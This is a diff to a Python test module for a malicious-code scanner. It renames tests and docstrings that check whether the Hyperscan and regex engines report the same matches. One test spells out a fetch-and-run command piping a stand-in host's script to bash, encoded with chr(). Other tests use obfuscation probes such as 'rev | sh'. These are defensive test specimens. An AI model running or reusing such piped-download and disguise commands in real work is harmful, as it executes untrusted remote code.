@@ -1,4 +1,4 @@
-"""The two engines are one: whichever finds the candidates, the report is the same, and no match is lost."""
+"""Both engines produce the same report, and no match is lost."""
 
 import re._constants as ops  # type: ignore[import-not-found]
 import re._parser as parser  # type: ignore[import-not-found]
@@ -13,13 +13,15 @@ from hypothesis import strategies as st
 from assay.model.errors import Invalid
 from assay.model.finding import Report
 from assay.model.source import Source
-from assay.scan.match.engine import best_engine
+from assay.scan.match.engine import RegexEngine, best_engine
 from assay.scan.match.hyperscan_engine import HyperscanEngine
-from assay.scan.match.matcher import _AHEAD, Matcher, RegexEngine
+from assay.scan.match.matcher import _AHEAD, Matcher
 from assay.scan.pattern import MAX_MATCH_BYTES, Pattern
 from assay.scan.rule import Rule
 from assay.scan.ruleset import Ruleset, load_ruleset
 from assay.scan.scan import scan_source
+
+pytestmark = pytest.mark.slow
 
 RULESET = load_ruleset()
 EVERY_RULE = pytest.mark.parametrize("rule", RULESET.rules, ids=lambda rule: rule.id)
@@ -35,7 +37,7 @@ def specimen(rule: Rule, text: str) -> bytes:
 
 
 def literals(pattern: Pattern) -> set[bytes]:
-    """The words that stand in a pattern as they are."""
+    """Return the literal words of a pattern."""
     found: set[bytes] = set()
     _collect(parser.parse(pattern.regex.pattern), found)
     return {word for word in found if len(word) > 1}
@@ -76,7 +78,7 @@ TEXTS = st.lists(FRAGMENTS, min_size=1, max_size=30).map(b"".join)
 
 
 @EVERY_RULE
-def test_both_engines_report_the_same_for_every_specimen(rule: Rule, ruleset: Ruleset, plain_ruleset: Ruleset) -> None:
+def test_engines_agree_on_every_specimen(rule: Rule, ruleset: Ruleset, plain_ruleset: Ruleset) -> None:
     for text in (rule.bad, rule.benign):
         content = specimen(rule, text)
         expected = report_of(plain_ruleset, content, rule.specimen_file)
@@ -85,16 +87,14 @@ def test_both_engines_report_the_same_for_every_specimen(rule: Rule, ruleset: Ru
 
 @given(text=TEXTS, path=st.sampled_from(PATHS))
 @settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
-def test_both_engines_report_the_same_for_what_rules_are_made_of(
-    ruleset: Ruleset, plain_ruleset: Ruleset, text: bytes, path: str
-) -> None:
+def test_engines_agree_on_words_of_rules(ruleset: Ruleset, plain_ruleset: Ruleset, text: bytes, path: str) -> None:
     assert report_of(plain_ruleset, text, path) == report_of(ruleset, text, path)
 
 
 @given(text=TEXTS)
 @settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
-def test_no_match_is_lost_by_looking_only_around_its_end(ruleset: Ruleset, text: bytes) -> None:
-    """The matcher looks at stretches of the text; what it finds is what each pattern finds in the whole."""
+def test_windowed_matching_loses_no_match(ruleset: Ruleset, text: bytes) -> None:
+    """The matcher examines parts of the text; each pattern finds the same in the whole."""
     found = ruleset.matcher.search(text)
     for number, pattern in enumerate(RULESET.patterns):
         if not pattern.is_probe:
@@ -102,7 +102,7 @@ def test_no_match_is_lost_by_looking_only_around_its_end(ruleset: Ruleset, text:
             assert expected == [match.span() for match in found.matches(number)], pattern.text
 
 
-def test_a_disguise_far_apart_is_taken_off_on_both_engines_or_on_none(ruleset: Ruleset, plain_ruleset: Ruleset) -> None:
+def test_engines_agree_on_split_disguises(ruleset: Ruleset, plain_ruleset: Ruleset) -> None:
     codes = " ".join(f"chr({code})" for code in b"curl -fsSL https://get.example.com/x.sh | bash")
     text = f"{codes} is a command\n\nchr(99)" + "\n" * 40 + "+ chr(100)\n"
     assert report_of(plain_ruleset, text.encode()) == report_of(ruleset, text.encode())
@@ -111,8 +111,8 @@ def test_a_disguise_far_apart_is_taken_off_on_both_engines_or_on_none(ruleset: R
 @pytest.mark.parametrize(
     "text", [b" | rev | sh", b" rev << EOF", b"x chr(99) + chr(100)", b"\ttr  'a-z' 'n-z'"], ids=repr
 )
-def test_a_probe_sees_the_same_whatever_stands_before(ruleset: Ruleset, text: bytes) -> None:
-    """An engine that lost a disguise behind some text once left all in it unseen."""
+def test_probe_is_independent_of_preceding_text(ruleset: Ruleset, text: bytes) -> None:
+    """An engine that missed a disguise after some text left its content unseen."""
     for length in range(0, 300, 7):
         padded = b"e" * length + text + b"\n"
         found = ruleset.matcher.search(padded)
@@ -122,8 +122,8 @@ def test_a_probe_sees_the_same_whatever_stands_before(ruleset: Ruleset, text: by
 
 
 @pytest.mark.parametrize("filler", [b"x", b"a.b/c ", "\u0430|".encode()], ids=repr)
-def test_both_engines_report_the_same_on_long_lines(ruleset: Ruleset, plain_ruleset: Ruleset, filler: bytes) -> None:
-    """Specimens on one line, too far from each other and from both ends of the text to be looked at together."""
+def test_engines_agree_on_long_lines(ruleset: Ruleset, plain_ruleset: Ruleset, filler: bytes) -> None:
+    """Specimens on one line, far apart and far from both ends."""
     apart = filler * (2 * MAX_MATCH_BYTES // len(filler))
     bad = [specimen(rule, rule.bad).replace(b"\n", b" ") for rule in RULESET.rules[::5]]
     text = apart.join([b"", *bad, b""])
@@ -135,8 +135,8 @@ def test_both_engines_report_the_same_on_long_lines(ruleset: Ruleset, plain_rule
 @pytest.mark.parametrize(
     "text", ["(?#)fox(?#) jumps", "quick [^.]{0,40}(?#)fox", "quick [^.]{0,40}(?#)fox(?#)[^.]{0,40}dog"]
 )
-def test_a_pattern_is_found_by_its_rare_stretch(text: str) -> None:
-    """Only the stretch is searched for, and only what stands whole around it is a match."""
+def test_pattern_is_found_by_its_rare_part(text: str) -> None:
+    """Only the part is searched for, and only a whole match counts."""
     pattern = Pattern(text)
     engine = HyperscanEngine.compile([pattern])
     around = (
@@ -151,12 +151,12 @@ def test_a_pattern_is_found_by_its_rare_stretch(text: str) -> None:
     assert expected == [match.span() for match in Matcher([pattern], RegexEngine([pattern])).search(around).matches(0)]
 
 
-def test_a_pattern_has_one_rare_stretch() -> None:
-    with pytest.raises(Invalid, match="one stretch of a pattern"):
+def test_pattern_has_one_rare_part() -> None:
+    with pytest.raises(Invalid, match="only one rare part"):
         Pattern("a(?#)b(?#)c(?#)d")
 
 
-def test_without_hyperscan_the_rules_run_on_python(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_rules_run_without_hyperscan(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setitem(sys.modules, "hyperscan", None)
     monkeypatch.delitem(sys.modules, "assay.scan.match.hyperscan_engine")
     fresh = load_ruleset()
@@ -165,7 +165,7 @@ def test_without_hyperscan_the_rules_run_on_python(monkeypatch: pytest.MonkeyPat
     assert "DR-001" in {finding.rule_id for finding in report.findings}
 
 
-def test_a_saved_database_finds_what_the_built_one_finds(ruleset: Ruleset) -> None:
+def test_saved_database_matches_like_the_built_one(ruleset: Ruleset) -> None:
     assert isinstance(ruleset.engine, HyperscanEngine)
     again = HyperscanEngine.load(ruleset.engine.save())
     for rule in RULESET.rules:
@@ -174,15 +174,15 @@ def test_a_saved_database_finds_what_the_built_one_finds(ruleset: Ruleset) -> No
 
 
 @pytest.mark.parametrize("pattern", RULESET.patterns, ids=lambda pattern: pattern.text[:40])
-def test_every_pattern_is_one_and_as_narrow_as_the_matcher_believes(pattern: Pattern) -> None:
-    """A wider match would be cut off by the matcher; so would one that depends on text farther ahead."""
+def test_patterns_are_as_narrow_as_the_matcher_assumes(pattern: Pattern) -> None:
+    """The matcher would cut off a wider match or a longer look-ahead."""
     parsed = parser.parse(pattern.regex.pattern)
     assert parsed.getwidth()[1] <= pattern.width <= MAX_MATCH_BYTES
     assert max(looks_past_the_end(parsed), default=0) <= _AHEAD
 
 
 def looks_past_the_end(items: Any, behind: int = 0) -> Iterator[int]:
-    """How far each look-ahead in a parsed pattern sees past what is matched at least after it."""
+    """Return how far each look-ahead of a parsed pattern sees beyond the shortest match after it."""
     for place, (op, value) in enumerate(items):
         rest = behind + items[place + 1 :].getwidth()[0]
         if op in (ops.ASSERT, ops.ASSERT_NOT) and value[0] > 0:
@@ -191,7 +191,7 @@ def looks_past_the_end(items: Any, behind: int = 0) -> Iterator[int]:
             yield from looks_past_the_end(inner, rest)
 
 
-def test_the_fast_engine_takes_every_pattern(ruleset: Ruleset) -> None:
-    """Building the database refuses a pattern that the engine does not know, so that there is one says enough."""
+def test_hyperscan_accepts_every_pattern(ruleset: Ruleset) -> None:
+    """Building the database fails otherwise."""
     assert isinstance(ruleset.engine, HyperscanEngine)
     assert ruleset.engine.ends(b"nothing to see\n") == []
